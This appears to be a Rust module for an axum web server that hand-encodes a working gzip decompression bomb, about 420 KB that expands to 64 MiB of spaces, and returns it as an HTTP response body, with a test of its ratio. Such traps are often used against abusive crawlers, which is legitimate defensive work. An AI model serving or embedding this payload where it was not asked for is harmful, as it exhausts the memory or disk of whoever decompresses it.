//! The gzip bomb: 64 MiB of spaces in about 420 KB, written by hand with fixed Huffman codes (RFC 1951).

use axum::body::Body;

/// Bytes after decompression.
pub(super) const INFLATED: u32 = 64 << 20;
/// CRC-32 of that many spaces.
const CHECKSUM: u32 = 0x97bf_d3ec;

/// A body that is small on the wire and very large after decompression.
pub(super) fn bomb() -> Body {
    Body::from(bytes())
}

fn bytes() -> Vec<u8> {
    // Magic, deflate, no flags, no time, no extra flags, unknown system.
    let mut out = Bits::new(vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255]);
    // Last block, fixed codes.
    out.push(1, 1);
    out.push(1, 2);
    // One space as a literal: 8-bit code 0x30 + 0x20.
    out.code(0x50, 8);
    let mut rest = INFLATED - 1;
    // Copies of 258 bytes from one byte back: length code 285 is 8 bits, distance code 0 is 5 bits.
    while rest >= 258 {
        out.code(0b1100_0101, 8);
        out.code(0, 5);
        rest -= 258;
    }
    for _ in 0..rest {
        out.code(0x50, 8);
    }
    // End of block.
    out.code(0, 7);
    let mut bytes = out.finish();
    bytes.extend_from_slice(&CHECKSUM.to_le_bytes());
    bytes.extend_from_slice(&INFLATED.to_le_bytes());
    bytes
}

struct Bits {
    bytes: Vec<u8>,
    pending: u32,
    count: u32,
}

impl Bits {
    fn new(bytes: Vec<u8>) -> Self {
        Bits {
            bytes,
            pending: 0,
            count: 0,
        }
    }

    /// Adds bits, least significant first.
    fn push(&mut self, value: u32, bits: u32) {
        self.pending |= value << self.count;
        self.count += bits;
        while self.count >= 8 {
            self.bytes.push((self.pending & 0xff) as u8);
            self.pending >>= 8;
            self.count -= 8;
        }
    }

    /// Adds a Huffman code, most significant bit first.
    fn code(&mut self, code: u32, bits: u32) {
        self.push(code.reverse_bits() >> (32 - bits), bits);
    }

    fn finish(mut self) -> Vec<u8> {
        if self.count > 0 {
            self.push(0, 8 - self.count);
        }
        self.bytes
    }
}

#[cfg(test)]
mod tests {
    use super::{INFLATED, bytes};

    #[test]
    fn the_bomb_is_small_until_it_is_opened() {
        assert!(bytes().len() * 100 < INFLATED as usize);
    }
}
